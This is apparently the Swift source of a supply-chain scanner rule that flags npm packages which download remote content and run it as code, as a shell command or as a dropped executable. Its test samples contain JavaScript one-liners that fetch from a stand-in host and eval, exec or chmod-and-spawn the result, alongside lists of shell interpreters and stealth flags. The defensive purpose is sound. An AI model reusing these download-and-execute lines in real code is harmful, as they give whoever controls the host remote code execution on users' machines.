// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What the network answers is run: as code, as a command, or as a program that is written to disk and started.
package struct DownloadsAndRuns: Rule {
    package init() {}

    package let card = RuleCard(
        id: "downloads-and-runs", kind: .content, title: "Runs what it downloads", severity: .critical, confidence: .high, status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "Code that is fetched when it is needed can be anything tomorrow, and nobody who reads the package sees it. eslint-scope 3.7.2 did it with eleven lines.",
        knownFalseAlarms: [
            "A loader of remote modules that says so, with the address in the code.", "A browser page that loads its own scripts.",
        ],
        references: ["https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes"],
        fires: [
            RuleSample(
                "as code",
                .sample([
                    "index.js":
                        "require('https').get('https://p.test/raw', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => eval(b)); });"
                ])),
            RuleSample(
                "as code, with promises and another name",
                .sample([
                    "index.js": "const F = Function; (async () => { const r = await fetch('https://p.test/x'); F(await r.text())(); })();"
                ])),
            RuleSample(
                "as a command",
                .sample([
                    "index.js":
                        "const { exec } = require('child_process'); const axios = require('axios'); axios.get('https://p.test/c').then(({ data }) => exec(data));"
                ])),
            RuleSample(
                "as a program",
                .sample([
                    "index.js":
                        "const fs = require('fs'), cp = require('child_process'); fetch('https://p.test/t').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/.t', Buffer.from(b)); fs.chmodSync('/tmp/.t', 0o755); cp.spawn('/tmp/.t', { detached: true }); });"
                ])),
        ],
        staysSilent: [
            RuleSample("a template engine", .sample(["index.js": "exports.compile = (text) => new Function('data', text);"])),
            RuleSample(
                "runs what the user names",
                .sample(["index.js": "exports.load = async (url) => { const r = await fetch(url); return new Function(await r.text()); };"])
            ),
            RuleSample(
                "asks for the latest version, starts git",
                .sample([
                    "index.js":
                        "const cp = require('child_process'); fetch('https://registry.npmjs.org/x').then(r => r.json()).then(v => console.log(v.version)); cp.spawnSync('git', ['status']);"
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        var found: [(flow: Flow, strength: Double, words: String)] = []
        for flow in facts.flows([.download], into: .runsText, .startsProcess) where flow.isNear {
            let isCode = flow.fact.kind == .runsText
            if let strength = strength(flow, facts) {
                found.append((flow, strength, isCode ? "runs a download as code" : "runs a download as a command"))
            }
        }
        for flow in facts.flows([.download], into: .writesFile) where flow.isNear {
            if let strength = program(flow, facts) { found.append((flow, strength, "writes a download to disk and starts a program")) }
        }
        guard let best = found.max(by: { $0.strength < $1.strength }) else { return [] }
        let flow = best.flow
        let hosts = facts.hosts(in: flow.file)
        return [
            card.finding(
                "\(facts.files[flow.file].path) \(best.words)\(hosts.isEmpty ? "" : ", from \(PlainWords.list(hosts, limit: 2))")\(facts.moment(of: flow.fact, in: flow.file).words)\(facts.gateWords(flow.fact))",
                strength: best.strength, evidence: facts.evidence(flow, from: [.download]),
                meaning: "Whoever holds that address decides what runs, today and tomorrow.")
        ]
    }

    private func strength(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) }
        // What a server that it starts hears is no download of its own.
        let isServer = facts.behaviour.files[flow.file]?.facts.contains { $0.kind == .listens } == true
        let isHidden = flow.fact.isDisguised || flow.taint.contains(.decrypted)
        guard isHidden || (moment.isByItself && !isServer) || (!hosts.isEmpty && !isServer) else { return nil }
        // A command with a known program and downloaded arguments is a tool at work.
        if flow.fact.kind == .startsProcess, let command = flow.fact.command, !command.hasPrefix("$_"), !isHidden, !isShell(command) {
            return nil
        }
        var strength = moment.isByItself ? 0.75 : 0.15
        if hosts.isEmpty { strength -= moment.isByItself ? 0.3 : 0.15 }
        // What was asked for goes into a command of its own: an address to fetch, a version to show.
        if hosts.isEmpty, flow.fact.kind == .startsProcess { strength -= 0.1 }
        if moment == .install { strength += 0.2 }
        if !flow.taint.isDisjoint(with: [.decoded, .decrypted]) { strength += 0.1 }
        if isHidden { strength += 0.4 }
        return strength
    }

    private static let interpreters: Set<String> = [
        "sh", "bash", "cmd", "cmd.exe", "powershell", "powershell.exe", "/bin/sh", "/bin/bash", "node", "python", "python3", "perl",
    ]

    private func isShell(_ command: String) -> Bool {
        command.split(separator: " ").first.map { Self.interpreters.contains(String($0)) } ?? false
    }

    /// A download that is written while the same file starts something that it does not name, or makes a file executable.
    private func program(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        let moment = facts.moment(of: flow.fact, in: flow.file)
        guard moment.isByItself || flow.fact.isDisguised else { return nil }
        let acts = facts.behaviour.files[flow.file]?.facts ?? []
        let starts = acts.filter {
            $0.kind == .startsProcess && Self.mayStart($0, flow.fact) && facts.moment(of: $0, in: flow.file).isByItself
        }
        guard let start = starts.first else { return nil }
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) && !Self.forges.contains($0) }
        let isHidden = Self.isHidden(facts.files[flow.file].file.bytes, start.place)
        // An installer that tries its own program is no dropper.
        if moment == .install || moment == .callAtInstall, !isHidden,
            hosts.isEmpty || starts.allSatisfy({ $0.details.contains { $0.contains("--version") } })
        {
            return nil
        }
        var strength = hosts.isEmpty ? 0.2 : 0.6
        if acts.contains(where: { $0.kind == .makesExecutable }) { strength += 0.1 }
        if isHidden { strength += 0.25 }
        if flow.fact.isDisguised || start.isDisguised { strength += 0.4 }
        if moment == .load { strength += 0.15 }
        return strength
    }

    /// Where projects keep what they release.
    private static let forges: Set<String> = [
        "github.com", "api.github.com", "objects.githubusercontent.com", "gitlab.com", "registry.npmjs.org", "nodejs.org",
    ]

    /// A process whose program is not known, or is the file that was written, or what opens archives and starts programs.
    private static func mayStart(_ start: Fact, _ write: Fact) -> Bool {
        guard let command = start.command else { return true }
        let first = command.split(separator: " ").first.map(String.init) ?? ""
        if first.hasPrefix("$_") || interpreters.contains(first)
            || ["start", "open", "xdg-open", "chmod", "msiexec", "rundll32"].contains(first)
        {
            return true
        }
        return write.details.contains { $0.utf8.count > 3 && command.contains($0) }
    }

    private static func isHidden(_ bytes: ArraySlice<UInt8>, _ place: Range<Int>) -> Bool {
        let end = min(bytes.startIndex + place.upperBound, bytes.endIndex)
        let text = String(decoding: bytes[min(bytes.startIndex + place.lowerBound, end)..<end], as: UTF8.self)
        return ["windowsHide", "detached", "'ignore'", "\"ignore\"", "WindowStyle Hidden", "nohup"].contains { text.contains($0) }
    }
}
